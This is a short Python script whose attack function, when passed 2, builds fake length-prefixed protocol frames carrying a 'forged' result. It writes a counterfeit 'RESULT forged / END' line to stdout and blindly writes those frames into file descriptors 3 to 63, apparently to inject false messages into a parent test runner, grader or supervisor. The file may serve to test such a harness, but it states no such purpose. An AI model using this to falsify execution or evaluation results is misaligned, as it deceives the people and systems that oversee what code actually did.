import os

def frame(kind, body):
    return kind + len(body).to_bytes(4, "little") + body

def forge(frames):
    os.write(1, b"\nRESULT 'forged'\nEND\n")
    for fd in range(3, 64):
        try:
            os.write(fd, frames)
        except OSError:
            pass

def attack(x):
    if x == 2:
        after = frame(b"S", bytes(8)) + frame(b"R", b"r\1\6\0\0\0forged\0\0\0\0") + frame(b"Z", b"")
        forge(frame(b"Z", b"") + frame(b"L", b"") + frame(b"P", b"") + frame(b"N", b"\1\0\0\0") + after)
    return x
